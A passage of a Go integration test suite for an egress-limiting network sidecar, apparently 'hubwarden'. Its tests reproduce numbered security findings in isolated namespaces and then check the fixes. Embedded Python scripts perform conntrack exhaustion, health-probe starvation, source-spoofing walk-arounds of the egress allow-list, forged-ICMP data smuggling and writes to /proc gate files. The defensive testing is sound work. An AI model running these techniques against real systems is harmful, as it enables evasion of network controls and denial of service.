//go:build linux

package adversary

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/hubwarden/hubwarden/ctwatch"
	"github.com/hubwarden/hubwarden/demotion"
	"github.com/hubwarden/hubwarden/egress"
	"github.com/hubwarden/hubwarden/health"
	"github.com/hubwarden/hubwarden/internal/hwtest"
	"github.com/hubwarden/hubwarden/internal/nstest"
	"github.com/hubwarden/hubwarden/tcshape"
	"github.com/hubwarden/hubwarden/warden"
	"github.com/hubwarden/hubwarden/xtables"
)

// Subnet indexes for nstest.NewPair: this package owns 80-99.

// spray is one UDP socket sending to closed ports across 127.1.x.y: each
// datagram is a new loopback flow. It prints how many it sent.
const spray = `
import socket, sys, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
end = time.time() + float(sys.argv[1])
n = 0
while time.time() < end:
    for y in range(1, 255):
        try:
            s.sendto(b"x", ("127.1.%d.%d" % (n // 254 % 250 + 1, y), 9 + n % 1000))
        except OSError:
            pass
        n += 1
print(n)
`

// TestIntegrationSpray is finding 1: an unprivileged user makes hundreds of
// thousands of loopback UDP flows a second. With hubwarden none is tracked
// (loopback is not), the sidecar's memory stays small, and a churning
// download beside the spray stays within the pod's bound. Control: the same
// spray where loopback is tracked fills the table.
func TestIntegrationSpray(t *testing.T) {
	t.Run("control: loopback tracked", func(t *testing.T) {
		b := newBed(t, 80, false, nil)
		b.Pod.MustRun("iptables", "-A", "OUTPUT", "-m", "conntrack", "--ctstate", "NEW", "-j", "ACCEPT")
		out := runUser(t, b.Pod, false, 30*time.Second, spray, "2")
		n := ctCount(t, b.Pod)
		sent, _ := strconv.Atoi(out)
		t.Logf("without hubwarden: %d datagrams, %d conntrack entries", sent, n)
		// Each datagram is a flow of its own and stays in the table, until
		// the table is full (nf_conntrack_max is shared by every namespace).
		if sent < 10000 || n < min(sent*9/10, 50000) {
			t.Errorf("%d datagrams made %d conntrack entries: the control does not reproduce the attack", sent, n)
		}
	})
	t.Run("hubwarden", func(t *testing.T) {
		b := newBed(t, 81, true, nil)
		const d = 8 * time.Second
		var peak uint64
		done := make(chan struct{})
		go func() {
			defer close(done)
			for i := 0; i < int(d/(100*time.Millisecond)); i++ {
				if rss, err := b.s.RSS(); err == nil {
					peak = max(peak, rss)
				}
				time.Sleep(100 * time.Millisecond)
			}
		}()
		user := asUser(t, b.Pod, false, 30*time.Second, spray, strconv.Itoa(int(d.Seconds())))
		if err := user.Start(); err != nil {
			t.Fatal(err)
		}
		moved := b.download(t, 4, 1<<20, d)
		user.Wait()
		<-done
		n := ctCount(t, b.Pod)
		t.Logf("with hubwarden: %d conntrack entries after the spray; sidecar RSS peak %d KiB, alive %v; a churning download beside it moved %s (bound %s)",
			n, peak, b.s.Alive(), mib(moved), mib(bound(d)))
		if n > 1000 {
			t.Errorf("the loopback spray left %d conntrack entries", n)
		}
		if !b.s.Alive() {
			t.Errorf("the sidecar died:\n%s", b.s.Logs())
		}
		if peak > 64<<10 {
			t.Errorf("sidecar RSS peaked at %d KiB during the spray", peak)
		}
		if moved > bound(d) {
			t.Errorf("the download moved %s beside the spray, over the bound %s", mib(moved), mib(bound(d)))
		}
	})
}

// holder opens connections to each address and holds them; it prints, per
// address, how many were established, refused, or still pending.
const holder = `
import json, resource, socket, sys, time
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
socks = []
for addr in sys.argv[2:]:
    host, port = addr.rsplit(":", 1)
    host = host.strip("[]")
    for i in range(int(sys.argv[1])):
        s = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET)
        s.setblocking(False)
        s.connect_ex((host, int(port)))
        socks.append((addr, s))
time.sleep(1.5)
counts = {}
for addr, s in socks:
    err = s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
    try:
        s.getpeername()
        st = "held"
    except OSError:
        st = "refused" if err == 111 else "pending"
    counts.setdefault(addr, {}).setdefault(st, 0)
    counts[addr][st] += 1
print(json.dumps(counts), flush=True)
time.sleep(12)
`

// TestIntegrationHeldProbes is finding 2: the notebook holds thousands of
// connections to hubwarden's health port. The kubelet's probes (from
// outside the pod) all answer: the pod's connections to the probe port are
// refused, and 127.0.0.1 has a listener of its own. Control: the same
// attack against a server with one listener and the old connection limit
// starves the probes.
func TestIntegrationHeldProbes(t *testing.T) {
	probeFromPeer := func(p *nstest.Pair, url string) (ok, failed int) {
		c := hwtest.PeerHTTP(p.Peer, time.Second)
		for range 20 {
			r, err := c.Get(url)
			if err == nil && r.StatusCode == 200 {
				ok++
			} else {
				failed++
				t.Logf("probe: %v", err)
			}
			if r != nil {
				r.Body.Close()
			}
			time.Sleep(200 * time.Millisecond)
		}
		return ok, failed
	}
	t.Run("control: one listener, 64 connections", func(t *testing.T) {
		p := nstest.NewPair(t, 82)
		ln := p.Pod.Listen("tcp", ":9380")
		srv := health.NewServer(":9380", http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(200) }))
		go srv.Serve(ln)
		t.Cleanup(func() { srv.HTTP.Close() })
		user := asUser(t, p.Pod, false, 30*time.Second, holder, "1500", p.PodIP4+":9380", "127.0.0.1:9380")
		out, err := user.StdoutPipe()
		if err != nil {
			t.Fatal(err)
		}
		if err := user.Start(); err != nil {
			t.Fatal(err)
		}
		counts := readCounts(t, out)
		ok, failed := probeFromPeer(p, "http://"+net.JoinHostPort(p.PodIP4, "9380")+"/healthz")
		user.Process.Kill()
		user.Wait()
		t.Logf("without the fix: the user's connections %v; probes ok %d, failed %d", counts, ok, failed)
		if failed < 5 {
			t.Errorf("the control did not starve the probes (%d of 20 failed)", failed)
		}
	})
	t.Run("hubwarden", func(t *testing.T) {
		b := newBed(t, 83, true, nil)
		user := asUser(t, b.Pod, false, 30*time.Second, holder, "1500", b.PodIP4+":9280", "127.0.0.1:9280", "["+b.PodIP6+"]:9280")
		out, err := user.StdoutPipe()
		if err != nil {
			t.Fatal(err)
		}
		if err := user.Start(); err != nil {
			t.Fatal(err)
		}
		counts := readCounts(t, out)
		ok, failed := probeFromPeer(b.Pair, "http://"+net.JoinHostPort(b.PodIP4, "9280")+"/healthz")
		user.Process.Kill()
		user.Wait()
		t.Logf("with hubwarden: the user's connections %v; the kubelet's probes: ok %d, failed %d", counts, ok, failed)
		if failed > 0 {
			t.Errorf("%d of 20 probes failed while the notebook held connections", failed)
		}
		for _, a := range []string{b.PodIP4 + ":9280", "[" + b.PodIP6 + "]:9280"} {
			if c := counts[a]; c["refused"] != 1500 {
				t.Errorf("the pod's connections to the probe port %s: %v, want all 1500 refused", a, c)
			}
		}
	})
}

// readCounts reads the holder's per-address counts.
func readCounts(t *testing.T, r io.Reader) map[string]map[string]int {
	t.Helper()
	line, err := bufio.NewReader(r).ReadString('\n')
	if err != nil {
		t.Fatalf("reading the holder's counts: %v", err)
	}
	var counts map[string]map[string]int
	if err := json.Unmarshal([]byte(line), &counts); err != nil {
		t.Fatalf("the holder's counts %q: %v", line, err)
	}
	return counts
}

// spoof6 is the IPv6 walk-around, as any user (IPV6_FREEBIND needs no
// privilege): a datagram to the pod's own address with a forbidden host as
// its source makes conntrack record the forbidden host as the flow's
// opener; the pod's "replies" to it would then pass as established.
const spoof6 = `
import socket, sys
IPV6_FREEBIND = 78
pod, forbidden, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
a = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
a.setsockopt(socket.IPPROTO_IPV6, IPV6_FREEBIND, 1)
a.bind((forbidden, port))
b = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
b.bind((pod, 7001))
b.settimeout(1)
try:
    a.sendto(b"hello", (pod, 7001))
    data, addr = b.recvfrom(100)
except OSError as e:
    print("opening refused:", e); addr = (forbidden, port)
sent = 0
for i in range(200):
    try:
        b.sendto(b"D" * 1000, addr); sent += 1000
    except OSError:
        pass
print("sent", sent)
`

// spoof4 is the IPv4 walk-around with NET_RAW (root in a container without
// NET_ADMIN): the opening datagram is written with a raw socket.
const spoof4 = `
import socket, struct, sys
pod, forbidden, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
b = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
b.bind((pod, 7001))
b.settimeout(1)
r = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
payload = b"hello"
udp = struct.pack("!HHHH", port, 7001, 8 + len(payload), 0) + payload
ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0, socket.inet_aton(forbidden), socket.inet_aton(pod))
try:
    r.sendto(ip + udp, (pod, 0))
    data, addr = b.recvfrom(100)
except OSError as e:
    print("opening refused:", e); addr = (forbidden, port)
sent = 0
for i in range(200):
    try:
        b.sendto(b"D" * 1000, addr); sent += 1000
    except OSError:
        pass
print("sent", sent)
`

// TestIntegrationSpoofedSource is finding 3: with hubwarden, not a byte of
// the "replies" reaches the forbidden host, in either family. Two rules
// stop it, and each alone does: the loopback notrack (the raw table's
// hooks: the opening datagram, sent to the pod's own address, opens no
// flow) and the egress filter's spoof rule (it is dropped). Control: the
// same attack with both removed (the rules before this fix) gets through.
func TestIntegrationSpoofedSource(t *testing.T) {
	for i, tc := range []struct {
		name           string
		noRaw, noSpoof bool
		control        bool
	}{
		{"hubwarden", false, false, false},
		{"without the loopback notrack", true, false, false},
		{"without the spoof rule", false, true, false},
		{"control: without both", true, true, true},
	} {
		control := tc.control
		t.Run(tc.name, func(t *testing.T) {
			b := newBed(t, 150+i, true, map[string]string{"HUBWARDEN_RECONCILE_INTERVAL": "1h"})
			for _, ipt := range []string{"iptables", "ip6tables"} {
				backend := strings.TrimSpace(b.Pod.MustRun("cat", b.s.Env["HUBWARDEN_STATE_DIR"]+"/"+warden.BackendFile))
				tool := ipt + "-" + backend
				if tc.noRaw {
					// The hooks as the sidecar plans them (egress on: the spoof
					// rule is in the filter, the raw hooks match loopback).
					raw, err := egress.RawTables(false, false)
					if err != nil {
						t.Fatal(err)
					}
					for _, h := range raw[0].Hooks {
						b.Pod.MustRun(tool, append([]string{"-t", "raw", "-D", h.Base}, xtables.HookArgs(h)...)...)
					}
				}
				if tc.noSpoof {
					// The spoof rule is the chain's first, or its second after
					// the accept of established flows.
					rules := strings.Split(b.Pod.MustRun(tool, "-t", "filter", "-S", egress.ChainEgress), "\n")
					at := slices.IndexFunc(rules, func(r string) bool { return strings.Contains(r, "(spoofed)") })
					if at < 1 || at > 2 {
						t.Fatalf("%s: the spoof rule is not among the egress chain's first two: %q", tool, rules)
					}
					b.Pod.MustRun(tool, "-t", "filter", "-D", egress.ChainEgress, strconv.Itoa(at))
				}
			}
			for _, fam := range []struct {
				name, pod, peer, program string
				root                     bool
			}{
				{"ipv6 (any user)", b.PodIP6, b.PeerIP6, spoof6, false},
				{"ipv4 (NET_RAW)", b.PodIP4, b.PeerIP4, spoof4, true},
			} {
				// The forbidden host: the peer on a port off the allow-list.
				const port = 7000
				got := b.Peer.ListenPacket("udp", net.JoinHostPort(fam.peer, strconv.Itoa(port)))
				var recv int
				var mu sync.Mutex
				go func() {
					buf := make([]byte, 2000)
					for {
						n, _, err := got.ReadFrom(buf)
						if err != nil {
							return
						}
						mu.Lock()
						recv += n
						mu.Unlock()
					}
				}()
				// Direct: refused by the allow-list.
				direct := runUser(t, b.Pod, false, 10*time.Second, `
import socket, sys
s = socket.socket(socket.AF_INET6 if ":" in sys.argv[1] else socket.AF_INET, socket.SOCK_DGRAM)
try:
    s.sendto(b"x" * 1000, (sys.argv[1], int(sys.argv[2]))); print("sent")
except OSError as e:
    print(e)
`, fam.peer, strconv.Itoa(port))
				out := runUser(t, b.Pod, fam.root, 20*time.Second, fam.program, fam.pod, fam.peer, strconv.Itoa(port))
				time.Sleep(300 * time.Millisecond)
				got.Close()
				mu.Lock()
				n := recv
				mu.Unlock()
				t.Logf("%s: a direct send: %s; the walk-around: %s; the forbidden host received %d bytes", fam.name, direct, out, n)
				if control && n == 0 {
					t.Errorf("%s: the control does not reproduce the walk-around", fam.name)
				}
				if !control && n > 0 {
					t.Errorf("%s: %d bytes reached the forbidden host", fam.name, n)
				}
			}
		})
	}
}

// forgeICMP sends ICMP "port unreachable" errors from the pod to an
// allowed host (the resolver) that quote the reply direction of the pod's
// own DNS flow to it, so that conntrack takes them for RELATED, each with
// 1000 bytes of payload. It needs NET_RAW.
const forgeICMP = `
import socket, struct, sys
pod, resolver = sys.argv[1], sys.argv[2]
d = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
d.bind((pod, 0))
sport = d.getsockname()[1]
d.sendto(b"q" * 30, (resolver, 53))   # the allowed flow
def csum(b):
    if len(b) % 2: b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    s = (s >> 16) + (s & 0xffff); s += s >> 16
    return ~s & 0xffff
inner_udp = struct.pack("!HHHH", 53, sport, 8 + 30, 0)
inner_ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + 8 + 30, 1, 0, 64, 17, 0, socket.inet_aton(resolver), socket.inet_aton(pod))
body = inner_ip + inner_udp + b"DATA" * 250
hdr = struct.pack("!BBHI", 3, 3, 0, 0)
icmp = struct.pack("!BBHI", 3, 3, csum(hdr + body), 0) + body
r = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
sent = 0
for i in range(100):
    try:
        r.sendto(icmp, (resolver, 0)); sent += len(icmp)
    except OSError as e:
        err = e
print("sent", sent)
`

// TestIntegrationForgedICMP is finding 4: errors forged by a raw socket
// about an allowed flow carry no payload out. Control: with the old rule
// that accepted RELATED from anyone, they do.
func TestIntegrationForgedICMP(t *testing.T) {
	for i, control := range []bool{true, false} {
		name := "hubwarden"
		if control {
			name = "control: RELATED accepted from user sockets"
		}
		t.Run(name, func(t *testing.T) {
			b := newBed(t, 86+i, true, map[string]string{"HUBWARDEN_RECONCILE_INTERVAL": "1h"})
			if control {
				backend := strings.TrimSpace(b.Pod.MustRun("cat", b.s.Env["HUBWARDEN_STATE_DIR"]+"/"+warden.BackendFile))
				b.Pod.MustRun("iptables-"+backend, "-I", "HUBWARDEN-EGRESS", "1", "-m", "conntrack", "--ctstate", "RELATED", "-j", "ACCEPT")
			}
			// The resolver counts the ICMP bytes it receives.
			icmp := b.Peer.ListenPacket("ip4:icmp", b.PeerIP4)
			var n int
			var wg sync.WaitGroup
			wg.Go(func() {
				buf := make([]byte, 65536)
				for {
					k, _, err := icmp.ReadFrom(buf)
					if err != nil {
						return
					}
					n += k
				}
			})
			out := runUser(t, b.Pod, true, 20*time.Second, forgeICMP, b.PodIP4, b.PeerIP4)
			time.Sleep(500 * time.Millisecond)
			icmp.Close()
			wg.Wait()
			t.Logf("%s: %s; the resolver received %d ICMP bytes", name, out, n)
			if control && n < 50000 {
				t.Errorf("the control does not reproduce the attack: %d bytes", n)
			}
			if !control && n > 0 {
				t.Errorf("%d bytes of forged ICMP errors reached the resolver", n)
			}
		})
	}
}

// busy is a notebook spinning on every core it can get.
const busy = `
import os, sys, time
n = int(sys.argv[1])
for i in range(n - 1):
    if os.fork() == 0:
        break
end = time.time() + float(sys.argv[2])
while time.time() < end:
    pass
`

// TestIntegrationStarved is finding 5: busy loops in the notebook starve
// the sidecar of CPU while 16 parallel downloads run: the pod's bound holds
// (the kernel counts every byte; a late watcher only refills late).
// Control: without hubwarden the same downloads move far more.
func TestIntegrationStarved(t *testing.T) {
	const d = 8 * time.Second
	var bare int64
	t.Run("control: without hubwarden", func(t *testing.T) {
		b := newBed(t, 88, false, nil)
		bare = b.download(t, 16, 0, d)
		t.Logf("without hubwarden: 16 parallel downloads moved %s in %s", mib(bare), d)
		if bare < 4*bound(d) {
			t.Errorf("the control moved only %s", mib(bare))
		}
	})
	t.Run("hubwarden", func(t *testing.T) {
		b := newBed(t, 89, true, nil)
		user := asUser(t, b.Pod, false, 30*time.Second, busy, "8", strconv.Itoa(int(d.Seconds())+1))
		if err := user.Start(); err != nil {
			t.Fatal(err)
		}
		moved := b.download(t, 16, 0, d)
		user.Wait()
		late := b.s.Metric("hubwarden_watcher_late_seconds")
		t.Logf("with hubwarden and 8 busy loops: 16 parallel downloads moved %s (bound %s; %.0f× less than without); watcher late by up to %.3f s", mib(moved), mib(bound(d)), float64(bare)/float64(max(moved, 1)), late)
		if moved > bound(d) {
			t.Errorf("starved: %s moved, over the bound %s", mib(moved), mib(bound(d)))
		}
	})
}

// TestIntegrationManyParallel is finding 6: 64 parallel downloads (and 64
// churning) stay within the pod's bound. Control: without hubwarden.
func TestIntegrationManyParallel(t *testing.T) {
	const d = 8 * time.Second
	t.Run("control: without hubwarden", func(t *testing.T) {
		b := newBed(t, 90, false, nil)
		bare := b.download(t, 64, 0, d)
		t.Logf("without hubwarden: 64 parallel downloads moved %s", mib(bare))
		if bare < 4*bound(d) {
			t.Errorf("the control moved only %s", mib(bare))
		}
	})
	t.Run("hubwarden", func(t *testing.T) {
		b := newBed(t, 91, true, nil)
		moved := b.download(t, 64, 0, d)
		t.Logf("with hubwarden: 64 parallel downloads moved %s (bound %s)", mib(moved), mib(bound(d)))
		if moved > bound(d) {
			t.Errorf("64 parallel moved %s, over the bound %s", mib(moved), mib(bound(d)))
		}
		b2 := newBed(t, 92, true, nil)
		moved = b2.download(t, 64, 1<<20, d)
		t.Logf("with hubwarden: 64 churning downloads (a new connection per MiB) moved %s (bound %s)", mib(moved), mib(bound(d)))
		if moved > bound(d) {
			t.Errorf("64 churning moved %s, over the bound %s", mib(moved), mib(bound(d)))
		}
	})
}

// keepOpen is root in the notebook, every capability dropped, writing the
// recent gate's /proc file to keep it open.
const keepOpen = `
import sys, time
end = time.time() + float(sys.argv[1])
ok = err = 0
while time.time() < end:
    # The recent gate's tables: keep "open" fresh; clear the gate of the
    # build before it (a table that closes the gate while it holds an entry).
    for name, addr in (("hubwarden-open4", "+0.0.0.0"), ("hubwarden-open6", "+::"), ("hubwarden-gate4", "/"), ("hubwarden-gate6", "/")):
        try:
            with open("/proc/net/xt_recent/" + name, "w") as f:
                f.write(addr + "\n")
            ok += 1
        except OSError as e:
            err += 1
    time.sleep(0.001)
print("writes ok", ok, "failed", err)
`

// TestIntegrationGateWrite is finding 7: root in the notebook without
// NET_ADMIN cannot hold the pod gate open. With the quota gate there is
// nothing it can write (nftables needs NET_ADMIN, checked in demotion's
// tests), and a churning download stays within the bound. Control: the
// fallback recent gate (a kernel without nftables quotas) is a /proc file
// root can write: the same user keeps it open and the download goes past
// the bound.
func TestIntegrationGateWrite(t *testing.T) {
	const d = 8 * time.Second
	for i, recent := range []bool{true, false} {
		name := "quota gate"
		if recent {
			name = "control: the recent gate (fallback)"
		}
		t.Run(name, func(t *testing.T) {
			nstest.SkipUnlessRoot(t, "iptables")
			p := nstest.NewPair(t, 93+i)
			p.Pod.ServeBulk(serverPort)
			e := env(t, p, nil)
			if recent {
				// The recorded choice of a kernel without nftables quotas.
				if err := os.WriteFile(filepath.Join(e["HUBWARDEN_STATE_DIR"], warden.DetectedFile), []byte(`{"pod_gate":"recent"}`), 0o644); err != nil {
					t.Fatal(err)
				}
				// Builds before the warden package kept the choice here.
				if err := os.WriteFile(filepath.Join(e["HUBWARDEN_STATE_DIR"], "pod-gate"), []byte("recent\n"), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			s := hwtest.Start(t, p, e)
			b := &bed{Pair: p, s: s}
			user := asUser(t, p.Pod, true, 30*time.Second, keepOpen, strconv.Itoa(int(d.Seconds())+1))
			var res strings.Builder
			user.Stdout, user.Stderr = &res, &res
			if err := user.Start(); err != nil {
				t.Fatal(err)
			}
			moved := b.download(t, 4, 1<<20, d)
			user.Wait()
			t.Logf("%s: root without NET_ADMIN writing the gate: %s; a churning download moved %s (bound %s)", name, strings.TrimSpace(res.String()), mib(moved), mib(bound(d)))
			if recent && moved <= bound(d) {
				t.Errorf("the control does not reproduce the attack: %s moved", mib(moved))
			}
			if !recent && moved > bound(d) {
				t.Errorf("%s moved, over the bound %s", mib(moved), mib(bound(d)))
			}
		})
	}
}

// TestIntegrationSlowCharged is finding 8: the pod bucket is charged with
// what actually left the slow class (after its queue's drops), once, not
// with what conntrack counted before the queue. 16 demoted downloads share
// the slow class for 20 s (its queue drops, TCP retransmits): the bucket's
// level moves by the refill less the slow class's bytes.
func TestIntegrationSlowCharged(t *testing.T) {
	b := newBed(t, 95, true, nil)
	addr := net.JoinHostPort(b.PodIP4, fmt.Sprint(serverPort))
	var bks []*nstest.Bulk
	for range 16 {
		bks = append(bks, b.Peer.StartBulk(addr, 0))
	}
	time.Sleep(6 * time.Second) // spend the budgets; the flows are slow now
	level0 := b.s.Metric("hubwarden_pod_bucket_bytes")
	slow0, _ := b.Pod.ClassSent("eth0", tcshape.SlowClass.String())
	ct0 := slowFlowBytes(t, b.Pod)
	t0 := time.Now()
	time.Sleep(20 * time.Second)
	level1 := b.s.Metric("hubwarden_pod_bucket_bytes")
	slow1, _ := b.Pod.ClassSent("eth0", tcshape.SlowClass.String())
	ct1 := slowFlowBytes(t, b.Pod)
	el := time.Since(t0).Seconds()
	for _, bk := range bks {
		bk.Close()
	}
	left := float64(slow1 - slow0)
	counted := float64(ct1 - ct0)
	want := level0 + podRefill*el - left
	t.Logf("20 s demoted: the slow class sent %.0f bytes (frames), conntrack counted %.0f before the queue (IP bytes, retransmissions and drops included); pod level %.0f -> %.0f, want %.0f (refill %.0f)",
		left, counted, level0, level1, want, podRefill*el)
	if d := level1 - want; d > 0.1*left || d < -0.1*left {
		t.Errorf("the pod bucket moved by %.0f, want refill less what left (%.0f)", level1-level0, want-level0)
	}
}

// slowFlowBytes sums what conntrack counted for the pod's demoted flows.
func slowFlowBytes(t *testing.T, ns *nstest.NS) uint64 {
	out := ns.MustRun("conntrack", "-L", "-p", "tcp", "--orig-port-dst", strconv.Itoa(serverPort))
	var sum uint64
	for _, l := range strings.Split(out, "\n") {
		// The pod sends in the reply direction: the second bytes= field.
		f := strings.Split(l, "bytes=")
		if len(f) >= 3 {
			var n uint64
			fmt.Sscan(strings.Fields(f[2])[0], &n)
			sum += n
		}
	}
	return sum
}

// TestIntegrationRestart: hubwarden killed and restarted (as the kubelet
// restarts it after failed probes, or an upgrade) in the middle of a
// churning download opens no window: the bound over the whole run holds.
func TestIntegrationRestart(t *testing.T) {
	b := newBed(t, 96, true, nil)
	const d = 10 * time.Second
	var wg sync.WaitGroup
	var moved int64
	wg.Go(func() { moved = b.download(t, 4, 1<<20, d) })
	time.Sleep(3 * time.Second)
	b.s.Kill()
	time.Sleep(2 * time.Second) // dead: nothing refills, the kernel holds
	b.s.Restart()
	wg.Wait()
	t.Logf("killed at 3 s, restarted at 5 s: a churning download moved %s in %s (bound %s)", mib(moved), d, mib(bound(d)))
	if moved > bound(d) {
		t.Errorf("%s moved across the restart, over the bound %s", mib(moved), mib(bound(d)))
	}
}

// flood opens flows to the peer's allowed UDP ports from many sockets: one
// datagram each.
const flood = `
import resource, socket, sys
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
peer, n = sys.argv[1], int(sys.argv[2])
socks = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(n // 1000)]
sent = 0
for s in socks:
    for port in range(5000, 6000):
        try:
            s.sendto(b"x", (peer, port)); sent += 1
        except OSError:
            pass
print(sent)
`

// TestIntegrationMarkedFlood bounds the sidecar's memory where it could
// grow: every flow the kernel marks for its attention. With the pod budget
// spent, every new flow is demoted (and so marked) from its first packet;
// 100,000 of them (an allowed UDP port range, one datagram each) leave the
// sidecar tracking at most MaxFlows, its RSS under the values file's
// GOMEMLIMIT, and every flow demoted but what the pod refill lets through
// (the refill is set to 100 B/s here: the quota gets the refill less what
// the slow class sent, so a few datagrams may pass fast).
func TestIntegrationMarkedFlood(t *testing.T) {
	const refill = 100 // bytes per second
	b := newBed(t, 98, true, map[string]string{"HUBWARDEN_POD_BUDGET": "1MiB", "HUBWARDEN_FLOW_BUDGET": "1MiB", "HUBWARDEN_POD_REFILL": "100B/s", "GOMEMLIMIT": "96MiB"})
	b.Pod.MustRun("sysctl", "-qw", "net.netfilter.nf_conntrack_max=262144")
	// Spend the pod budget.
	b.download(t, 2, 0, 2*time.Second)
	var peak uint64
	stop := make(chan struct{})
	var wg sync.WaitGroup
	wg.Go(func() {
		for {
			select {
			case <-stop:
				return
			case <-time.After(50 * time.Millisecond):
			}
			if rss, err := b.s.RSS(); err == nil {
				peak = max(peak, rss)
			}
		}
	})
	start := time.Now()
	sent := runUser(t, b.Pod, false, 120*time.Second, flood, b.PeerIP4, "100000")
	// Let the watcher take them all in (tracked or parked).
	deadline := time.Now().Add(60 * time.Second)
	for time.Now().Before(deadline) {
		tracked, parked := b.s.Metric("hubwarden_flows_tracked"), b.s.Metric("hubwarden_flows_parked_total")
		if tracked+parked >= 99000 {
			break
		}
		time.Sleep(500 * time.Millisecond)
	}
	took := time.Since(start)
	time.Sleep(2 * time.Second)
	close(stop)
	wg.Wait()
	n := ctCount(t, b.Pod)
	tracked, parked := b.s.Metric("hubwarden_flows_tracked"), b.s.Metric("hubwarden_flows_parked_total")
	out := b.Pod.MustRun("conntrack", "-L", "-p", "udp")
	undemoted := 0
	for _, l := range strings.Split(out, "\n") {
		if strings.Contains(l, "dport=5") && !strings.Contains(l, "mark=") {
			undemoted++
			if undemoted <= 3 {
				t.Logf("not demoted: %s", l)
			}
		}
	}
	t.Logf("%s datagrams, %d conntrack entries: the sidecar tracks %.0f, parked %.0f, in %v; RSS peak %.1f MiB; %d flows without a mark; alive %v",
		sent, n, tracked, parked, took.Round(time.Millisecond), float64(peak)/1024, undemoted, b.s.Alive())
	if !b.s.Alive() {
		t.Fatalf("the sidecar died:\n%s", b.s.Logs())
	}
	if peak > 96<<10 {
		t.Errorf("RSS peaked at %.1f MiB, over GOMEMLIMIT 96 MiB", float64(peak)/1024)
	}
	if tracked > ctwatch.DefaultMaxFlows {
		t.Errorf("the sidecar tracks %.0f flows, over its maximum %d", tracked, ctwatch.DefaultMaxFlows)
	}
	// A flood datagram is 29 bytes on the wire (IPv4, UDP, one byte).
	if allowed := int(refill*time.Since(start).Seconds())/29 + 1; undemoted > allowed {
		t.Errorf("%d flows of the flood are not demoted; the refill allows %d", undemoted, allowed)
	}
}

// TestIntegrationInteractiveFlood: the slow class's interactive leaf serves
// first the demoted flows that send little (under an eighth of the slow
// rate each, per window); a user who spreads a download over many such
// flows gets them all that priority. With the pod budget spent, 64 flows
// each paced under the allowance are all served by the interactive leaf,
// and still what leaves the pod is the slow rate and the pod refill, plus
// the interactive leaf's burst: the split moves bytes between the slow
// leaves, never past the slow class. Control: the same flows without
// hubwarden.
func TestIntegrationInteractiveFlood(t *testing.T) {
	const (
		flows = 64
		pace  = 100 << 10 // bytes/s per flow, under the 122 KiB/s allowance at 8 mbit
		d     = 6 * time.Second
	)
	start := func(b *bed) []*nstest.Bulk {
		addr := net.JoinHostPort(b.PodIP4, fmt.Sprint(serverPort))
		var bks []*nstest.Bulk
		for range flows {
			bks = append(bks, b.Peer.StartBulk(addr, pace))
		}
		t.Cleanup(func() {
			for _, bk := range bks {
				bk.Close()
			}
		})
		return bks
	}
	received := func(bks []*nstest.Bulk, from, to time.Time) int64 {
		var n int64
		for _, bk := range bks {
			n += bk.At(to) - bk.At(from)
		}
		return n
	}
	t.Run("control: without hubwarden", func(t *testing.T) {
		b := newBed(t, 97, false, nil)
		bks := start(b)
		time.Sleep(time.Second)
		from := time.Now()
		time.Sleep(d)
		got := received(bks, from, time.Now())
		t.Logf("without hubwarden: %d flows paced at %d KiB/s moved %s in %s", flows, pace>>10, mib(got), d)
		if got < 4*int64((podRefill+slowRate)*d.Seconds()) {
			t.Errorf("the control moved only %s", mib(got))
		}
	})
	t.Run("hubwarden", func(t *testing.T) {
		b := newBed(t, 99, true, nil)
		t0 := time.Now()
		bks := start(b)
		// Spend the pod budget (32 MiB at up to 6.4 MiB/s): then the gate
		// demotes every flow that sends.
		deadline := time.Now().Add(30 * time.Second)
		for b.s.Metric("hubwarden_pod_gate_sets_total") < 1 && time.Now().Before(deadline) {
			time.Sleep(100 * time.Millisecond)
		}
		time.Sleep(2 * time.Second)
		// The counters are read by tc; the time the reads may span is from
		// before the first to after the last.
		before := time.Now()
		slow0, _ := b.Pod.ClassSent("eth0", tcshape.SlowClass.String())
		inter0, _ := b.Pod.ClassSent("eth0", tcshape.InteractiveClass.String())
		from := time.Now()
		time.Sleep(d)
		to := time.Now()
		inter1, _ := b.Pod.ClassSent("eth0", tcshape.InteractiveClass.String())
		slow1, _ := b.Pod.ClassSent("eth0", tcshape.SlowClass.String())
		span := time.Since(before).Seconds()
		got := received(bks, from, to)
		all := received(bks, t0, to)
		el := to.Sub(from).Seconds()
		slow, inter := int64(slow1-slow0), int64(inter1-inter0)
		// What the slow class may send in that span: its rate, its own
		// and its leaves' bursts (tcshape's SlowExcess), and the one packet
		// HTB lets a class send into debt (a 64 KiB GSO packet).
		slowBound := int64(slowRate*span) + slowExcess(t) + 64<<10
		window := int64((podRefill+slowRate)*el) + slowExcess(t) + 1<<20
		t.Logf("with hubwarden, the pod budget spent: %d flows moved %s in %.2f s (bound %s); the slow class sent %d bytes in at most %.2f s (bound %d), %d of them from the interactive leaf; %s in all since the start (bound %s)",
			flows, mib(got), el, mib(window), slow, span, slowBound, inter, mib(all), mib(bound(to.Sub(t0))))
		if slow > slowBound {
			t.Errorf("the slow class sent %d bytes in %.2f s, over its bound %d", slow, span, slowBound)
		}
		if got > window {
